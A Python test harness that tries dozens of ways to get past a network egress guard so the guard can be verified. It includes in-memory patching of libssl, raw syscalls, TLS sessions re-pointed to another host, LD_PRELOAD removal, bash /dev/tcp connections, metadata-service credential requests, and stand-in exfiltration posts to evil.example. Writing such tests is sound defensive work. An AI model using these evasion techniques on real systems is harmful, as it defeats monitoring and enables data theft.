"""The guarded program, in the hands of somebody who knows the guard: each step tries one way round it to make a request that
is not allowed, and prints what came of it as a JSON line.  What left is seen at the other end (test_guard.py)."""

import array
import ctypes
import errno
import json
import os
import shutil
import socket
import ssl
import subprocess
import sys
import threading
import time

GOOD, BAD = "reports.s3.eu-west-1.amazonaws.com", "salaries.s3.eu-west-1.amazonaws.com"
PATH = "s3.eu-west-1.amazonaws.com"
CA, FOLDER = os.environ["TEST_CA"], os.environ["TEST_FOLDER"]
SIGNED = ("X-Amz-Date: 20261121T120000Z\r\nX-Amz-Content-Sha256: UNSIGNED-PAYLOAD\r\nAuthorization: AWS4-HMAC-SHA256 "
          "Credential=AKIDEXAMPLE/20261121/eu-west-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature=00\r\n")
libc = ctypes.CDLL(None, use_errno=True)
libc.dlmopen.restype = libc.dlsym.restype = libc.mmap.restype = ctypes.c_void_p


def text(host=BAD, method="GET", target="/denied.csv"):
    return ("%s %s HTTP/1.1\r\nHost: %s\r\n%sContent-Length: 0\r\n\r\n" % (method, target, host, SIGNED)).encode()


def allowed():
    return text(GOOD, "PUT", "/k.csv")


def dial(host, port=443):
    return socket.create_connection((host, port), timeout=5)


def context():
    return ssl.create_default_context(cafile=CA)


def wrapped(host):
    return context().wrap_socket(dial(host), server_hostname=host)


def said(got):
    return got[9:12].decode() if got.startswith(b"HTTP/1.1 ") else "%d bytes" % len(got)


# ---- TLS that the guard does not know, or does not expect -------------------------------------------------------------


def tlslite(send):
    """A TLS library in Python alone: there is nothing to hook.  ${send} carries its records."""
    from tlslite.api import TLSConnection

    class Carrier(socket.socket):
        def send(self, data, flags=0):
            return send(self, bytes(data))

        def sendall(self, data, flags=0):
            while data:
                data = data[self.send(data):]

    raw = dial(BAD)
    c = TLSConnection(Carrier(raw.family, raw.type, raw.proto, raw.detach()))
    c.closeSocket = True
    c.handshakeClientCert(serverName=BAD)
    c.send(text())
    return said(bytes(c.recv(max=100, min=1)))


def a20_software_tls():
    return tlslite(lambda s, data: socket.socket.send(s, data))


def a01_software_tls_by_number():
    return tlslite(lambda s, data: ok(libc.syscall(44, s.fileno(), data, ctypes.c_size_t(len(data)), 0, None, 0)))


def a01_software_tls_by_libc():
    """Past every interposed symbol: libc's own."""
    own = ctypes.CDLL("libc.so.6", use_errno=True)
    return tlslite(lambda s, data: ok(own.send(s.fileno(), data, ctypes.c_size_t(len(data)), 0)))


def a01_software_tls_cut_up():
    def send(s, data):
        for b in data:
            socket.socket.send(s, bytes([b]))
        return len(data)
    return tlslite(send)


def ok(rc):
    if rc < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return rc


class Library:
    """libssl by hand."""

    def __init__(self, path=None, handle=None):
        self.path = path or next(l.split()[-1] for l in open("/proc/self/maps") if "libssl" in l)
        self.lib = None if handle else ctypes.CDLL(self.path)
        self.handle = handle

    def call(self, name, *args, restype=ctypes.c_void_p):
        if self.handle:
            f = ctypes.CFUNCTYPE(restype)(libc.dlsym(ctypes.c_void_p(self.handle), name.encode()))
        else:
            f = getattr(self.lib, name)
        f.restype, f.argtypes = restype, None
        return f(*[ctypes.c_void_p(a) if isinstance(a, int) and a > 0xffff else a for a in args])

    def session(self, host, verify=True):
        ctx = self.call("SSL_CTX_new", self.call("TLS_client_method"))
        self.call("SSL_CTX_load_verify_locations", ctx, CA.encode(), None, restype=ctypes.c_int)
        s = self.call("SSL_new", ctx)
        self.call("SSL_ctrl", s, 55, ctypes.c_long(0), host.encode(), restype=ctypes.c_long)
        raw = dial(host)
        raw.settimeout(None)
        self.call("SSL_set_fd", s, raw.fileno(), restype=ctypes.c_int)
        if self.call("SSL_connect", s, restype=ctypes.c_int) != 1:
            raise OSError("no handshake")
        self.raw = raw
        return s

    def talk(self, s, data, way="SSL_write"):
        n = ctypes.c_size_t(0)
        if way == "SSL_write_ex":
            rc = self.call(way, s, data, ctypes.c_size_t(len(data)), ctypes.byref(n), restype=ctypes.c_int)
        else:
            rc = self.call(way, s, data, len(data), restype=ctypes.c_int)
        if rc <= 0:
            return "write says %d" % rc
        buf = ctypes.create_string_buffer(100)
        got = self.call("SSL_read", s, buf, 100, restype=ctypes.c_int)
        return said(buf.raw[:got]) if got > 0 else "read says %d" % got


def a06_real_function():
    lib = Library()
    return lib.talk(lib.session(BAD), text())


def a07_looked_up():
    lib = Library()
    lib.handle = libc.dlopen(lib.path.encode(), 2) if libc.dlopen.__setattr__("restype", ctypes.c_void_p) is None else 0
    return lib.talk(lib.session(BAD), text(), "SSL_write_ex")


def a09_copied_library():
    copy = os.path.join(FOLDER, "innocent.so")
    shutil.copy(Library().path, copy)
    lib = Library(copy)
    return lib.talk(lib.session(BAD), text())


def a11_bio():
    lib = Library()
    s = lib.session(BAD)
    method = lib.call("BIO_f_ssl")
    if not method:
        return "no BIO_f_ssl"
    bio = lib.call("BIO_new", method)
    lib.call("BIO_ctrl", bio, 109, ctypes.c_long(0), s, restype=ctypes.c_long)
    return "BIO_write says %d" % lib.call("BIO_write", bio, text(), len(text()), restype=ctypes.c_int)


def a11_sendfile():
    lib = Library()
    s = lib.session(BAD)
    path = os.path.join(FOLDER, "request")
    with open(path, "wb") as f:
        f.write(text())
    with open(path, "rb") as f:
        return "SSL_sendfile says %d" % lib.call("SSL_sendfile", s, f.fileno(), ctypes.c_long(0),
                                                 ctypes.c_size_t(len(text())), 0, restype=ctypes.c_long)


def a12_record_by_hand():
    """As somebody does who has the session's keys: the records are made outside the library."""
    s = wrapped(GOOD)
    s.sendall(allowed())
    s.recv(100)
    os.write(s.fileno(), b"\x17\x03\x03\x02\x00" + b"x" * 512)
    return "written"


def a12_plaintext_beneath():
    s = wrapped(GOOD)
    s.sendall(allowed())
    s.recv(100)
    os.write(s.fileno(), text())
    return "written"


def a13_kernel_tls():
    s = wrapped(GOOD)
    try:
        s.setsockopt(socket.IPPROTO_TCP, 31, b"tls\0")
        return "the kernel has it"
    except OSError as e:
        return errno.errorcode[e.errno]


def a14_copied_descriptor():
    s = wrapped(GOOD)
    os.write(os.dup(s.fileno()), b"\x17\x03\x03\x02\x00" + b"x" * 512)
    return "written"


def a14_passed_descriptor():
    s = wrapped(GOOD)
    a, b = socket.socketpair()
    a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [s.fileno()]))])
    _, more, _, _ = b.recvmsg(1, socket.CMSG_LEN(4))
    other = array.array("i")
    other.frombytes(more[0][2])
    os.write(other[0], b"\x17\x03\x03\x02\x00" + b"x" * 512)
    return "written"


def a14_inherited_descriptor():
    s = wrapped(GOOD)
    os.set_inheritable(s.fileno(), True)
    program = "import os; os.write(%d, b'\\x17\\x03\\x03\\x02\\x00' + b'x' * 512)" % s.fileno()
    return "exit %d" % subprocess.run([sys.executable, "-c", program], close_fds=False, stderr=subprocess.DEVNULL).returncode


def a15_session_for_another_host():
    lib = Library()
    s = lib.session(GOOD)
    first = lib.talk(s, allowed())
    lib.call("SSL_clear", s, restype=ctypes.c_int)
    raw = dial(BAD)
    raw.settimeout(None)
    lib.call("SSL_ctrl", s, 55, ctypes.c_long(0), BAD.encode(), restype=ctypes.c_long)
    lib.call("SSL_set_fd", s, raw.fileno(), restype=ctypes.c_int)
    lib.call("SSL_set_connect_state", s)
    if lib.call("SSL_connect", s, restype=ctypes.c_int) != 1:
        return [first, "no handshake"]
    return [first, lib.talk(s, text())]


def a17_buffer_that_changes():
    """Another thread changes the bytes between their check and their encryption."""
    lib, stop, answers = Library(), [], set()
    data = text(PATH, "PUT", "/reports/k")
    buf = ctypes.create_string_buffer(data, len(data))
    at, good, bad = data.index(b"reports"), b"reports", b"salarie"

    def flip():
        while not stop:
            ctypes.memmove(ctypes.addressof(buf) + at, bad, 7)
            ctypes.memmove(ctypes.addressof(buf) + at, good, 7)

    t = threading.Thread(target=flip)
    t.start()
    for _ in range(150):
        s = lib.session(PATH)
        answers.add(lib.talk(s, buf))
        lib.raw.close()
    stop.append(1)
    t.join()
    return sorted(answers - {"200", "403"})


def unverified(host, name=None):
    c = ssl.create_default_context(cafile=CA)
    c.check_hostname = False
    if name is None:
        c.verify_mode = ssl.CERT_NONE
        c = ssl._create_unverified_context()
    with c.wrap_socket(dial(host), server_hostname=name or host) as s:
        s.sendall(text(name or host, "PUT", "/denied.csv"))
        got = s.recv(1000)
        return [said(got), b"PEER_UNVERIFIED" in got or b"nobody has verified" in got]


def h02_nobody_verifies():
    return unverified(GOOD)[0]


def h02_certificate_of_another():
    """The name is the listed one, the server somebody else, who has a certificate for himself."""
    c = ssl.create_default_context(cafile=CA)
    c.check_hostname = False
    with c.wrap_socket(dial("evil.example", 8444), server_hostname=GOOD) as s:
        s.sendall(text(GOOD, "PUT", "/denied.csv"))
        return said(s.recv(100))


def h02_verified_without_saying():
    """The handshake verifies although nobody insists."""
    c = ssl.create_default_context(cafile=CA)
    c.check_hostname = False
    c.verify_mode = ssl.CERT_NONE
    with c.wrap_socket(dial(GOOD), server_hostname=GOOD) as s:
        s.sendall(allowed())
        return said(s.recv(100))


# ---- taking the guard off ---------------------------------------------------------------------------------------------


def as_in_the_file(name):
    """Where a function of libssl begins, and the bytes it has in the file."""
    path = Library().path
    at = ctypes.cast(getattr(ctypes.CDLL(path), name), ctypes.c_void_p).value
    for line in open("/proc/self/maps"):
        span, _, offset, _, _, *rest = line.split()
        start, end = (int(x, 16) for x in span.split("-"))
        if rest and rest[0] == path and start <= at < end:
            with open(path, "rb") as f:
                f.seek(at - start + int(offset, 16))
                return at, f.read(32)
    raise OSError("not found")


def undone(write):
    out = []
    for name in ("SSL_write", "SSL_write_ex"):
        try:
            write(*as_in_the_file(name))
            out.append("written")
        except OSError as e:
            out.append(errno.errorcode.get(e.errno, str(e)))
    try:
        lib = Library()
        out.append(lib.talk(lib.session(BAD), text()))
    except OSError as e:
        out.append(errno.errorcode.get(e.errno, str(e)))
    return "undone" if out[-1] == "200" else "held: %s" % out


def b01_process_memory():
    def write(at, data):
        with open("/proc/self/mem", "r+b", buffering=0) as f:
            f.seek(at)
            f.write(data)
    return undone(write)


def b02_writable_text():
    def write(at, data):
        libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
        ok(libc.mprotect(at & ~4095, 8192, 7))
        ctypes.memmove(at, data, len(data))
    return undone(write)


def b04_clean_page():
    def write(at, data):
        page = bytearray(ctypes.string_at(at & ~4095, 8192))
        page[at & 4095:(at & 4095) + len(data)] = data
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
        if libc.mmap(at & ~4095, 8192, 7, 0x32, -1, 0) in (None, ctypes.c_void_p(-1).value):
            ok(-1)
        ctypes.memmove(at & ~4095, bytes(page), len(page))
    return undone(write)


# ---- without TLS ------------------------------------------------------------------------------------------------------


def plain(data, host=BAD, port=80):
    s = dial(host, port)
    s.sendall(data)
    got = s.recv(100)
    rest = s.recv(4000) if b" 403 " in got else b""
    return [said(got), b"AccessDenied" in got + rest]


def e05_plain_http():
    return plain(text())


def e05_plain_http_by_writev():
    s = dial(BAD, 80)
    data = text()
    os.writev(s.fileno(), [data[:5], data[5:50], data[50:]])
    return said(os.read(s.fileno(), 100))


def e05_plain_http_by_bytes():
    s = dial(BAD, 80)
    for b in text():
        libc.write(s.fileno(), bytes([b]), ctypes.c_size_t(1))
    return said(s.recv(100))


def e05_plain_http_by_sendmmsg():
    class Iovec(ctypes.Structure):
        _fields_ = [("p", ctypes.c_char_p), ("n", ctypes.c_size_t)]

    class Message(ctypes.Structure):
        _fields_ = [("name", ctypes.c_void_p), ("n_name", ctypes.c_uint), ("v", ctypes.POINTER(Iovec)), ("n", ctypes.c_size_t),
                    ("control", ctypes.c_void_p), ("n_control", ctypes.c_size_t), ("flags", ctypes.c_int), ("length", ctypes.c_uint)]
    s = dial(BAD, 80)
    v = Iovec(text(), len(text()))
    m = Message(v=ctypes.pointer(v), n=1)
    ok(libc.sendmmsg(s.fileno(), ctypes.byref(m), 1, 0))
    return said(s.recv(100))


def e05_plain_http_by_fdopen():
    s = dial(BAD, 80)
    libc.fdopen.restype = ctypes.c_void_p
    f = ctypes.c_void_p(libc.fdopen(s.fileno(), b"r+"))
    libc.fwrite(text(), ctypes.c_size_t(1), ctypes.c_size_t(len(text())), f)
    libc.fflush(f)
    return said(s.recv(100))


def e05_plain_foreign():
    return plain(b"POST /stolen HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 6\r\n\r\nsecret", "203.0.113.9")[0]


def e05_plain_allowed():
    s = dial(GOOD, 80)
    out = []
    for i in range(3):
        s.sendall(allowed())
        out.append(said(s.recv(100)))
    return out


def e05_plain_then_denied():
    s = dial(GOOD, 80)
    s.sendall(allowed())
    first = said(s.recv(100))
    s.sendall(text(GOOD, "DELETE", "/denied"))
    return [first, said(s.recv(100))]


def e05_plain_upload():
    """Without blocking, in pieces that the socket takes in part."""
    import select
    s = dial(GOOD, 80)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
    body = bytes(i * 7 % 251 for i in range(1 << 20)) * 4
    data = ("PUT /k.csv HTTP/1.1\r\nHost: %s\r\n%sContent-Length: %d\r\n\r\n" % (GOOD, SIGNED, len(body))).encode() + body
    data, waits = memoryview(data), 0
    s.setblocking(False)
    while data:
        try:
            data = data[s.send(data[:200000]):]
        except BlockingIOError:
            waits += 1
            select.select([], [s], [], 10)
    s.setblocking(True)
    return [said(s.recv(100)), waits > 0]


def e05_own_protocol_at_80():
    s = dial("203.0.113.9", 80)
    s.sendall(b"hello, take this: secret\n")
    return said(s.recv(100))


def e07_own_protocol_elsewhere():
    s = dial("127.0.0.1", 5432)
    s.sendall(b"\0\0\0\x08\x04\xd2\x16\x2f")
    return s.recv(100).decode()


def c12_local_service():
    s = dial("127.0.0.1", 8126)
    s.sendall(b"POST /v0.4/traces HTTP/1.1\r\nHost: localhost:8126\r\nContent-Length: 2\r\n\r\n{}")
    return said(s.recv(100))


def d03_sendfile():
    path = os.path.join(FOLDER, "request")
    with open(path, "wb") as f:
        f.write(text())
    s = dial(BAD, 80)
    with open(path, "rb") as f:
        os.sendfile(s.fileno(), f.fileno(), 0, len(text()))
    return said(s.recv(100))


def d03_splice():
    s = dial(BAD, 80)
    r, w = os.pipe()
    os.write(w, text())
    ok(libc.splice(r, None, s.fileno(), None, ctypes.c_size_t(len(text())), 0))
    return said(s.recv(100))


def d02_fast_open():
    s = socket.socket()
    s.sendto(text(), socket.MSG_FASTOPEN, (socket.gethostbyname(BAD), 80))
    return said(s.recv(100))


def e08_foreign_proxy():
    s = dial("203.0.113.9", 8080)
    s.sendall(b"CONNECT %s:443 HTTP/1.1\r\nHost: %s\r\nX: secret\r\n\r\n" % (BAD.encode(), BAD.encode()))
    return said(s.recv(100))


def e01_quic():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return s.sendto(b"\xc0\0\0\0\1" + b"x" * 1195, (socket.gethostbyname(BAD), 443))


def e01_quic_connected():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((socket.gethostbyname(BAD), 443))
    return s.send(b"\xc0\0\0\0\1" + b"x" * 1195)


def e01_quic_elsewhere():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return s.sendto(b"\xc0\0\0\0\1" + b"x" * 1195, (socket.gethostbyname(BAD), 8443))


def e01_other_datagrams():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return s.sendto(b"a trace", (socket.gethostbyname(BAD), 2000))


def f02_metadata_of_the_sdk():
    s = dial("169.254.169.254", 80)
    s.sendall(b"PUT /latest/api/token HTTP/1.1\r\nHost: 169.254.169.254\r\nContent-Length: 0\r\n\r\n")
    first = said(s.recv(100))
    s.sendall(b"GET /latest/meta-data/iam/security-credentials/role HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n")
    return [first, said(s.recv(100))]


def f02_metadata_else():
    s = dial("169.254.169.254", 80)
    s.sendall(b"GET /latest/user-data HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n")
    return said(s.recv(100))


# ---- the kernel -------------------------------------------------------------------------------------------------------


def by_number(nr, *args):
    """Past libc: the function is not even called by its name."""
    rc = libc.syscall(nr, *args)
    return "rc %d" % rc if rc >= 0 else errno.errorcode[ctypes.get_errno()]


def d01_ring():
    return by_number(425, 8, ctypes.create_string_buffer(120))


def b05_ptrace():
    return by_number(101, 16, os.getppid(), 0, 0)


def b03_write_memory():
    return by_number(311, os.getpid(), None, 0, None, 0, 0)


def b03_read_memory():
    """Is none of ours."""
    return by_number(310, os.getpid(), None, 0, None, 0, 0)


def d04_d05_families():
    out = []
    for family, kind, protocol in ((40, 1, 0), (38, 5, 0), (17, 3, 0), (2, 3, 1), (2, 1, 132), (2, 1, 262), (2, 2, 136),
                                   (2, 2, 1), (2, 5, 132)):
        try:
            socket.socket(family, kind, protocol)
            out.append("made")
        except OSError as e:
            out.append(errno.errorcode.get(e.errno, str(e)))
    return sorted(set(out) - {"EAFNOSUPPORT", "EPROTONOSUPPORT", "EPERM", "ESOCKTNOSUPPORT"})


def d05_ordinary_families():
    for family, kind, protocol in ((2, 1, 0), (2, 1, 6), (2, 2, 17), (10, 1, 0), (10, 2, 0), (1, 1, 0), (1, 2, 0), (1, 5, 0), (16, 3, 0),
                                   (2, 1 | socket.SOCK_CLOEXEC | socket.SOCK_NONBLOCK, 6)):
        socket.socket(family, kind, protocol)
    return len(socket.getaddrinfo(BAD, 443)) > 0


def d07_bpf():
    return [by_number(321, 0, None, 0), by_number(298, None, 0, -1, -1, 0)]


# ---- other programs ---------------------------------------------------------------------------------------------------

TRY = "import runpy, sys; sys.argv[1:] = ['plain_try']; runpy.run_path(%r, run_name='__main__')" % os.path.abspath(__file__)


def plain_try():
    """What children are asked to do: over TLS, and without."""
    with wrapped(BAD) as s:
        s.sendall(text())
        return [said(s.recv(100)), e05_plain_http()[0]]


def child(run):
    """${run} starts a Python with our code and no environment; what it prints is its result."""
    r, w = os.pipe()
    os.set_inheritable(w, True)
    run([sys.executable, "-c", "import os; os.environ.update(TEST_CA=%r, TEST_FOLDER=%r); %s" % (CA, FOLDER, TRY)], w)
    os.close(w)
    with os.fdopen(r) as f:
        out = f.read()
    return json.loads(out)["result"] if out else "nothing"


def c02_cleared_environment():
    return child(lambda argv, w: subprocess.run(argv, env={}, stdout=w, close_fds=False))


def c02_unset():
    os.environ.pop("LD_PRELOAD", None)
    return child(lambda argv, w: subprocess.run(argv, stdout=w, close_fds=False))


def c02_own_allowlist():
    every = json.dumps({"alps": 1, "allow": {"s3": {"*": ["*"]}}})
    return child(lambda argv, w: subprocess.run(argv, env={"ALPS_ALLOWLIST": every, "ALPS_MODE": "observe"}, stdout=w))


def c02_exec():
    def run(argv, w):
        pid = os.fork()
        if pid == 0:
            os.dup2(w, 1)
            os.execve(argv[0], argv, {})
        os.waitpid(pid, 0)
    return child(run)


def c10_posix_spawn():
    return child(lambda argv, w: os.waitpid(os.posix_spawn(argv[0], argv, {}, file_actions=[(os.POSIX_SPAWN_DUP2, w, 1)]), 0))


def c10_vfork_by_number():
    """execve by its number, with nothing in the environment."""
    def run(argv, w):
        pid = os.fork()
        if pid == 0:
            os.dup2(w, 1)
            a = (ctypes.c_char_p * (len(argv) + 1))(*[x.encode() for x in argv], None)
            libc.syscall(59, argv[0].encode(), a, (ctypes.c_char_p * 1)(None))
            os._exit(9)
        os.waitpid(pid, 0)
    return child(run)


def c03_memory_program():
    fd = os.memfd_create("x")
    with open(os.path.realpath(sys.executable), "rb") as f:
        os.write(fd, f.read())

    def run(argv, w):
        pid = os.fork()
        if pid == 0:
            os.dup2(w, 1)
            os.execve(fd, argv, {"PYTHONHOME": sys.base_prefix})
        os.waitpid(pid, 0)
    return child(run)


def c01_static_program():
    return subprocess.run([os.path.join(FOLDER, "static"), socket.gethostbyname(BAD)]).returncode


def c03_static_in_memory():
    fd = os.memfd_create("x")
    with open(os.path.join(FOLDER, "static"), "rb") as f:
        os.write(fd, f.read())
    pid = os.fork()
    if pid == 0:
        try:
            os.execve(fd, ["x", socket.gethostbyname(BAD)], {})
        finally:
            os._exit(126)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])


def c05_by_the_loader():
    return subprocess.run(["/lib64/ld-linux-x86-64.so.2", os.path.join(FOLDER, "dynamic"), socket.gethostbyname(BAD)]).returncode


def c06_other_rights():
    return subprocess.run([os.path.join(FOLDER, "setuid"), socket.gethostbyname(BAD)]).returncode


def c07_other_processor():
    return subprocess.run([os.path.join(FOLDER, "foreign")]).returncode


def c09_openssl():
    p = subprocess.Popen(["openssl", "s_client", "-quiet", "-connect", BAD + ":443", "-servername", BAD], env={},
                         stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    p.stdin.write(text())
    p.stdin.flush()
    got = os.read(p.stdout.fileno(), 100)
    p.kill()
    return said(got)


def c09_bash():
    p = subprocess.run(["/bin/bash", "-c", "exec 3<>/dev/tcp/%s/80; cat >&3; head -c 12 <&3" % BAD], input=text(), env={},
                       stdout=subprocess.PIPE, timeout=20)
    return said(p.stdout + b" ")


def c08_daemon():
    def run(argv, w):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.dup2(w, 1)
                os.execve(argv[0], argv, {})
            os._exit(0)
        os.wait()
    return child(run)


def b08_unloaded_guard():
    libc.dlopen.restype = ctypes.c_void_p
    handle = libc.dlopen(os.environ["TEST_GUARD"].encode(), 2 | 4)
    for _ in range(10 if handle else 0):
        libc.dlclose(ctypes.c_void_p(handle))
    return plain_try()


if __name__ == "__main__":
    for step in sys.argv[1:]:
        try:
            result = globals()[step]()
        except Exception as e:
            result = "%s: %s" % (type(e).__name__, e)
        print(json.dumps({"step": step, "result": result}), flush=True)
